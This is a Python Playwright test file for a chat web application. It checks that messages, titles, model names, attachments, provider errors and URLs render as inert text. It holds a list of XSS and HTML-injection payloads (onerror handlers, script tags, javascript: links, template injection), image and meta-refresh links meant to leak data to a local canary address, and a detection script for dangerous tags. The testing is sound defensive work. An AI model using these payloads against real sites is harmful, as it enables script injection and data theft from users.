"""Texts that try to become more than text, wherever a text of somebody else is shown: nothing runs, nothing is fetched, nothing is added."""

import json
import subprocess
from pathlib import Path

import pytest
from playwright.sync_api import expect

import plenum
from conftest import serve
from plenum import wait_until
from talks import bring, long_talk, talk

CORPUS = Path(__file__).parents[2] / "Web" / "md" / "attacks.mjs"

# Handlers that shout if they run, and remote things that would be fetched.
OWN = [
    "<img src=x onerror=window.__hit=1>", "\"><img src=x onerror=window.__hit=1>", "<script>window.__hit=1</script>", "<svg/onload=window.__hit=1>",
    "javascript:window.__hit=1", "[x](javascript:window.__hit=1)", "![x](http://127.0.0.2:9/leak?d=1)", "<a href=javascript:window.__hit=1>x</a>",
    "{{constructor.constructor('window.__hit=1')()}}", "'-window.__hit=1-'", "`${window.__hit=1}`", "</title><script>window.__hit=1</script>",
    "</textarea><img src=x onerror=window.__hit=1>", "--><img src=x onerror=window.__hit=1>", "\u202e<script>window.__hit=1</script>\u202c",
    "<iframe srcdoc='<script>parent.__hit=1</script>'></iframe>", "<object data=http://127.0.0.2:9/x></object>", "<link rel=stylesheet href=http://127.0.0.2:9/x>",
    "<meta http-equiv=refresh content='0;url=http://127.0.0.2:9/'>", "<base href=http://127.0.0.2:9/>", "<form action=http://127.0.0.2:9/><button>x</button></form>",
]


@pytest.fixture(scope="module")
def attacks():
    """The renderer's own corpus, and what is for the page alone."""
    script = f"import {{ attacks }} from {json.dumps(CORPUS.as_uri())}; console.log(JSON.stringify(attacks))"
    told = subprocess.run(["node", "--input-type=module", "-e", script], capture_output=True, text=True, check=True, timeout=30)
    every = list(dict.fromkeys([*OWN, *json.loads(told.stdout)]))
    assert len(every) >= 150
    return every


# What is in the page that must not be, and what shouted.
FOUND = """() => {
    const wrongs = [];
    if (window.__hit !== undefined) wrongs.push('a script of an attacker ran');
    const names = new Set(['SCRIPT', 'IFRAME', 'OBJECT', 'EMBED', 'BASE', 'META', 'LINK', 'STYLE', 'TEMPLATE', 'APPLET', 'FRAME', 'AUDIO', 'VIDEO', 'PORTAL', 'ISINDEX']);
    for (const one of document.body.querySelectorAll('*')) {
        const tag = one.tagName.toUpperCase();
        if (names.has(tag) && !one.closest('annotation')) wrongs.push(`<${tag}>`);
        for (const { name, value } of one.attributes) {
            if (/^on/i.test(name)) wrongs.push(`${tag} has ${name}`);
            if (/^(href|src|action|formaction|xlink:href|data|poster|srcset|srcdoc)$/i.test(name)) {
                const isAnswer = one.closest('.md, .user-words') !== null;
                const isOwn = !isAnswer && ((value.startsWith('/') && !value.startsWith('//')) || one.matches('.skip-link'));
                const isImage = tag === 'IMG' && /^data:image\\/(png|jpeg|gif|webp|avif);base64,/i.test(value);
                const isLink = tag === 'A' && /^(https?:\\/\\/|mailto:)/i.test(value);
                if (!isOwn && !isImage && !isLink) wrongs.push(`${tag} ${name}=${value.slice(0, 80)}`);
                if (isLink && /^https?:/i.test(value) && !/noopener|noreferrer/.test(one.rel)) wrongs.push(`${value.slice(0, 60)} opens with a way back`);
            }
        }
    }
    return [...new Set(wrongs)];
}"""


def clean(page):
    assert page.evaluate(FOUND) == []
    assert page.evaluate("window.__violations") == []


def title_of(attack):
    return " ".join(attack.split())[:190] or "x"


def test_answers_stay_texts(attacks, fresh, open_page):
    batches = [attacks[start:start + 40] for start in range(0, len(attacks), 40)]
    bring(fresh, [long_talk(number, f"Batch {number}", batch) for number, batch in enumerate(batches)])
    page = open_page(server=fresh)
    for one in fresh.client().get("/v1/conversations?limit=100").json()["data"]:
        page.goto(f"/c/{one['id']}")
        count = len(batches[int(one["title"].split()[1])])
        expect(page.locator("chat-answer")).to_have_count(count)
        # What is far out of sight is rendered lazily by some browsers: all of it is looked at.
        page.evaluate("document.querySelectorAll('.exchange').forEach((one) => (one.style.contentVisibility = 'visible'))")
        clean(page)


def test_a_streamed_answer_stays_a_text(attacks, tmp_path, open_page):
    # One answer that has them all, cut where the words end.
    everything = "\n\n".join(attacks)
    simulator = plenum.Simulator(tmp_path / "simulator", rules=[{"answer": everything, "words_gap_ms": 0}]).start()
    server = serve(tmp_path, demo=False, providers=plenum.three_dialects(simulator.url, ["attacker"]))
    try:
        page = open_page("/?models=chat/attacker,claude/attacker", server=server)
        page.get_by_label("Message", exact=True).fill("\n".join(attacks[:60]))
        page.keyboard.press("Enter")
        expect(page.locator(".seat-card[data-state=done]")).to_have_count(2, timeout=20_000)
        clean(page)
        assert page.locator(".user-words").inner_text().startswith(attacks[0])
        page.close()
    finally:
        server.kill()
        simulator.kill()


def test_titles_stay_texts_in_the_list_the_search_the_palette_and_the_window(attacks, fresh, open_page):
    bring(fresh, [talk(number, title_of(attack), number / 100, question=f"needle {attack}") for number, attack in enumerate(attacks)])
    page = open_page(server=fresh)
    rows = page.get_by_role("navigation", name="Conversations").get_by_role("listitem")
    expect(rows.first).to_be_visible()
    for part in (0, 0.35, 0.7, 1):
        page.locator(".drawer-scroll").evaluate(f"(one) => one.scrollTo(0, one.scrollHeight * {part})")
        page.wait_for_load_state("networkidle")
        clean(page)
    search = page.get_by_label("Search in titles and texts")
    for words in ["needle", "alert", "script", "img", "svg onload"]:
        search.fill(words)
        expect(page.locator(".hit mark").first).to_be_visible()
        clean(page)
    search.fill("")
    page.keyboard.press("Control+k")
    for words in ["needle", "javascript", "script"]:
        page.get_by_role("combobox").fill(words)
        expect(page.get_by_role("option").filter(has=page.locator("mark")).first).to_be_visible()
        clean(page)
    page.keyboard.press("Escape")
    worst = [one for one in fresh.client().get("/v1/conversations?limit=1000").json()["data"] if "onerror=window" in one["title"]]
    for one in worst[:4]:
        page.goto(f"/c/{one['id']}")
        expect(page.locator("h1")).to_have_text(one["title"])
        assert page.title().startswith(one["title"][:20])
        clean(page)
        page.locator(".conversation-link[aria-current]").focus()
        page.keyboard.press("Delete")
        expect(page.get_by_role("button", name="Undo")).to_be_visible()
        clean(page)
        page.get_by_role("button", name="Undo").click()


def test_names_of_models_stay_texts(attacks, tmp_path, simulator, open_page):
    names = [title_of(attack)[:120] for attack in attacks]
    models = [{"id": f"evil-{number}", "name": name} for number, name in enumerate(names)]
    # Ids, too, as far as the server lets them through.
    ids = [{"id": name} for name in ["<img src=x onerror=window.__hit=1>", "\"onmouseover=window.__hit=1", "'><script>window.__hit=1</script>", "javascript:window.__hit=1"]]
    server = None
    for extra in (ids, []):
        folder = tmp_path / f"with-{len(extra)}"
        try:
            server = serve(folder, demo=False, providers={"providers": [plenum.provider("chat", "chat", simulator.url, models + extra, name="<b onclick=window.__hit=1>Evil</b>")]})
            break
        except plenum.StartError:
            continue
    assert server is not None
    try:
        page = open_page("/?models=chat/evil-0,chat/evil-1", server=server)
        expect(page.locator(".seat-chip")).to_have_count(2)
        page.keyboard.press("Control+l")
        expect(page.locator(".model-row")).to_have_count(len(models) + len(extra))
        clean(page)
        page.keyboard.press("Escape")
        page.get_by_label("Message", exact=True).fill("Who are you?")
        page.keyboard.press("Enter")
        expect(page.locator(".seat-card[data-state=done]")).to_have_count(2)
        clean(page)
        for path in ("/usage?by=model", "/usage?by=provider", "/preferences"):
            page.goto(path)
            expect(page.locator("[aria-busy]")).to_have_count(0)
            clean(page)
        page.close()
    finally:
        server.kill()


def test_names_and_texts_of_attachments_stay_texts(attacks, fresh, open_page):
    page = open_page(server=fresh)
    chosen = [attack for attack in attacks if "/" not in attack and "\0" not in attack][:60]
    names = [f"{title_of(attack)[:100]}.txt" for attack in chosen]
    page.get_by_label("Attach files").set_input_files(
        [{"name": name, "mimeType": "text/plain", "buffer": attack.encode(errors="replace")} for name, attack in zip(names, chosen)])
    expect(page.locator(".attachment.pending")).to_have_count(len(names))
    clean(page)
    page.get_by_label("Message", exact=True).fill("What is this?")
    page.keyboard.press("Enter")
    expect(page.locator(".user-message details.attachment")).to_have_count(len(names))
    page.locator(".user-message details.attachment").evaluate_all("all => all.forEach((one) => (one.open = true))")
    clean(page)
    assert "img src=x" in page.locator(".user-message").inner_text()
    page.reload()
    expect(page.locator(".user-message details.attachment")).to_have_count(len(names))
    clean(page)


def test_what_providers_say_of_an_error_stays_a_text(attacks, tmp_path, upstream, open_page):
    chosen = attacks[:160]
    said = iter(chosen)

    def refuse(link, call):
        message = next(said, "done")
        return plenum.whole(link, json.dumps({"error": {"message": message, "type": "invalid_request_error", "code": title_of(message)[:60]}}), "400 Bad Request")

    server = serve(tmp_path, demo=False, providers={"providers": [plenum.provider("chat", "chat", upstream(refuse).url, ["evil"])]})
    try:
        with server.client() as client:
            # Sixteen seats a run are sixteen errors on one page.
            for number in range(0, len(chosen), 16):
                begun = client.post("/v1/runs", json={"kind": "compare", "input": f"Fail {number}", "models": ["chat/evil"] * 16, "background": True}).raise_for_status().json()
                wait_until(lambda: client.get(f"/v1/runs/{begun['id']}").json()["status"] not in ("queued", "in_progress"), limit=20, what="the refusals")
            places = [one["id"] for one in client.get("/v1/conversations?limit=100").json()["data"]]
        page = open_page(server=server)
        shown = []
        for place in places:
            page.goto(f"/c/{place}")
            expect(page.locator(".error-card")).to_have_count(16)
            clean(page)
            shown += page.locator(".error-card").all_inner_texts()
        assert any(OWN[0] in text for text in shown), "what the provider said is not shown: then this tests nothing"
        page.locator(".error-card").first.get_by_role("button", name="Details").click()
        expect(page.get_by_role("dialog")).to_contain_text("HTTP 400")
        clean(page)
        page.close()
    finally:
        server.kill()


def test_addresses_and_imports_stay_texts(fresh, open_page, tmp_path):
    page = open_page("/?q=" + "%3Cimg%20src%3Dx%20onerror%3Dwindow.__hit%3D1%3E&model=%22%3E%3Cscript%3Ewindow.__hit%3D1%3C/script%3E", server=fresh)
    expect(page.get_by_label("Message", exact=True)).to_have_value("<img src=x onerror=window.__hit=1>")
    clean(page)
    page.watch.expected += ["404", "400"]
    page.goto("/c/%3Cscript%3Ewindow.__hit%3D1%3C%2Fscript%3E")
    expect(page.get_by_role("heading", name="This conversation")).to_be_visible()
    clean(page)
    page.get_by_role("button", name="Export and import").click()
    broken = [{**talk("x", "<img src=x onerror=window.__hit=1>"), "mapping": {"a": {"message": {"author": 7}}}}]
    page.locator("input[type=file][accept]").set_input_files({"name": "<img src=x onerror=window.__hit=1>.json", "mimeType": "application/json", "buffer": json.dumps(broken).encode()})
    expect(page.locator(".import-counts, .import-progress [role=alert]").first).to_be_visible()
    clean(page)


def test_a_picture_from_elsewhere_is_never_fetched_by_itself(fresh, open_page):
    hits = []
    canary = plenum.Upstream(lambda link, call: hits.append(call.head))
    bring(fresh, [talk("leak", "Leak", answer=f"![a map of {{secrets}}]({canary.url}/leak.png?d=secret) and ![]({canary.url}/2.png)\n\n[![x]({canary.url}/3.png)](https://example.org/)")])
    page = open_page(server=fresh)
    page.get_by_role("link", name="Leak").click()
    answer = page.locator("chat-answer")
    expect(answer).to_contain_text("a map of {secrets}")
    expect(answer.locator("img")).to_have_count(0)
    page.wait_for_load_state("networkidle")
    assert hits == []
    clean(page)
    canary.close()
